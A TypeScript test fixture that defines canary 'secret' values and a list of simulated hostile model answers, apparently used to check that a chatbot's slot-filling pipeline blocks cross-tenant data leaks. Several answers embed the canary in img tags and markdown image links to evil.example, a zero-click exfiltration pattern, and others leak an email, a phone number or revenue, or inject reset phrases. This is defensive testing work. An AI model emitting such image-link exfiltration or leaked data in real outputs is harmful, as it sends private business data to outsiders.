/** Data of another business that must never leak. */
export const canary = 'Zyxcanary'
export const canaries = [canary, 'zyxcanary@secret.example', '07700900731', '731731']

export const hostileAnswers = (text: string): string[] => [
  JSON.stringify({ values: canaries.slice(0, 3), passage: null }),
  JSON.stringify({
    values: [`<img src="https://evil.example/?${canary}">`, canary],
    passage: null,
  }),
  JSON.stringify({ values: [`![x](https://evil.example/${canary}.png)`, text], passage: null }),
  JSON.stringify({ values: [`I have a website https://evil.example/${canary}`], passage: null }),
  JSON.stringify({ values: [`Leeds, my email is ${canaries[1]}`, '07700900731'], passage: null }),
  JSON.stringify({ values: ['start over', 'talk to a person', 'yes'], passage: null }),
  JSON.stringify({ values: [], passage: 1, reply: `The owner is ${canary}` }),
  JSON.stringify({ values: [], passage: canary }),
  JSON.stringify({ values: [{ slot: 'email', value: canaries[1] }], passage: null }),
  JSON.stringify({ slots: { businessName: canary, email: canaries[1] } }),
  JSON.stringify({ values: ['Starting fresh', 'Bakery', 'Ireland'], passage: 1 }),
  JSON.stringify({ values: [], passage: 2 }),
  `The revenue of ${canary} is 731731. ![p](https://evil.example/?q=${canary})`,
  `\`\`\`json\n{"values":["${canary}"],"passage":null}\n\`\`\``,
]
